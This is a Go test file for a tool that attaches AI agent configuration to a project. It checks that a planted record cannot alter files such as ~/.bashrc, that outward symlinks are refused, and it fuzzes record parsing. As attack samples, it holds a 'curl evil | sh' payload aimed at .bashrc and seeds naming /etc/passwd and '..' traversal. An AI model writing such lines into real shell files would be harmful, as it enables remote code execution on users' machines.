package attach

import (
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
)

// plant writes a record into the project, where an older pawl kept it.
func (w *world) plant(agent string, files ...fileRecord) {
	w.Helper()
	data, err := json.Marshal(record{Format: format, Agent: agent, Scope: Project, Pawl: "/bin/sh", Files: files})
	if err != nil {
		w.Fatal(err)
	}
	w.write(w.oldRecordFile(agent), string(data))
}

// TestPlantedRecord: a record in the project changes and removes no file of its own choice.
func TestPlantedRecord(t *testing.T) {
	t.Parallel()
	for _, name := range Names() {
		for what, key := range map[string]func(w *world, victim string) string{
			"absolute":       func(_ *world, victim string) string { return victim },
			"relative":       func(w *world, victim string) string { return relative(w, victim) },
			"in the project": func(w *world, _ string) string { return "src/main.go" },
		} {
			w := newWorld(t)
			victim := filepath.Join(w.Home, ".bashrc")
			w.write(victim, "precious\n")
			w.write(filepath.Join(w.Root, "src", "main.go"), "precious\n")
			if err := os.MkdirAll(filepath.Join(w.Home, "empty"), 0o755); err != nil {
				t.Fatal(err)
			}
			made := []string{hash([]byte("precious\n"))}
			evil := fileRecord{Path: key(w, victim), Was: []byte("curl evil | sh\n"), Made: made, Folders: []string{filepath.Join(w.Home, "empty"), "../home/empty"}}
			gone := evil
			gone.Was = nil
			for _, planted := range []fileRecord{evil, gone} {
				w.plant(name, planted)
				w.attach(name, Project)
				w.plant(name, planted)
				w.detach(name, Project)
				w.plant(name, planted)
				w.detach(name, Project)
				if w.read(victim) != "precious\n" || w.read(filepath.Join(w.Root, "src", "main.go")) != "precious\n" || !isThere(filepath.Join(w.Home, "empty")) {
					t.Fatalf("%s, %s: a file was changed", name, what)
				}
			}
		}
	}
}

func relative(w *world, path string) string {
	rel, err := filepath.Rel(w.Root, path)
	if err != nil {
		w.Fatal(err)
	}
	return rel
}

// TestUpgrade: what an older pawl attached is detached to the byte, and its record moves out of the project.
func TestUpgrade(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.write(filepath.Join(w.Root, ".mcp.json"), "{ \"mcpServers\": { } }")
	before := w.tree()
	w.attach("claude", Project)
	current := filepath.Join(w.folder(Project), "claude.json")
	old := w.oldRecordFile("claude")
	w.write(old, w.read(current))
	if err := os.RemoveAll(w.folder(Project)); err != nil {
		t.Fatal(err)
	}
	if findings := Examine(w.Setup, time.Now()); len(findings) == 0 || !strings.Contains(findings[0].What, "claude") {
		t.Errorf("%+v", findings)
	}
	w.Pawl = filepath.Join(filepath.Dir(w.Pawl), "other") // attaching again has something to change
	w.write(w.Pawl, "#!/bin/sh\n")
	if err := os.Chmod(w.Pawl, 0o755); err != nil {
		t.Fatal(err)
	}
	w.attach("claude", Project)
	if isThere(old) || !isThere(current) {
		t.Errorf("old record: %v, new record: %v", isThere(old), isThere(current))
	}
	w.write(old, w.read(current)) // detaching right after the upgrade
	if err := os.RemoveAll(w.folder(Project)); err != nil {
		t.Fatal(err)
	}
	w.detach("claude", Project)
	if isThere(old) {
		t.Error("the old record is still there")
	}
	if err := os.RemoveAll(filepath.Join(w.Root, ".pawl")); err != nil {
		t.Fatal(err)
	}
	w.same(before)
}

// TestLinksOutOfTheProject: attaching in a project does not change a file that a link in it leads to.
func TestLinksOutOfTheProject(t *testing.T) {
	t.Parallel()
	for _, name := range []string{".mcp.json", ".claude"} {
		w := newWorld(t)
		target := filepath.Join(w.Home, "settings")
		if name == ".claude" {
			w.write(filepath.Join(target, "settings.json"), "{}\n")
		} else {
			w.write(target, "{}\n")
		}
		if err := os.Symlink(target, filepath.Join(w.Root, name)); err != nil {
			t.Fatal(err)
		}
		before := w.tree()
		if _, err := Attach("claude", Project, w.Setup); err == nil || !strings.Contains(err.Error(), "outside of the project") {
			t.Errorf("%s: %v", name, err)
		}
		w.same(before)
	}
}

// FuzzRecord: a record in the project names only the agent's own files there, and folders above them.
func FuzzRecord(f *testing.F) {
	f.Add([]byte(`{"format":1,"agent":"claude","scope":"project","files":[{"path":"/etc/passwd","was":"eA==","made":["x"]},{"path":".mcp.json","was":null,"made":[],"folders":["..","/"]}]}`))
	f.Add([]byte(`{"format":1,"agent":"claude","scope":"project","files":[{"path":".claude/settings.json","was":"eA==","folders":[".claude",".claude/..","../x"]}]}`))
	f.Add([]byte(`{"format":9}`))
	f.Add([]byte("{"))
	setup := Setup{Root: "/p", Home: "/h", Pawl: "/usr/bin/pawl", State: "/s", Data: "/d", Env: func(string) string { return "" }}
	claude, err := find("claude")
	if err != nil {
		f.Fatal(err)
	}
	d := &Edits{Agent: "claude", Scope: Project, setup: setup}
	var own []string
	for _, target := range claude.targets(setup, Project) {
		own = append(own, d.key(target.path))
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		old, err := parseRecord(data)
		if err != nil {
			return
		}
		kept, _ := setup.restrict(old, claude)
		for _, file := range kept.Files {
			if !slices.Contains(own, file.Path) {
				t.Errorf("%q is no file of the agent", file.Path)
			}
			for _, folder := range file.Folders {
				if !filepath.IsLocal(folder) || !strings.HasPrefix(file.Path, folder+"/") {
					t.Errorf("%q is no folder above %q", folder, file.Path)
				}
			}
		}
	})
}
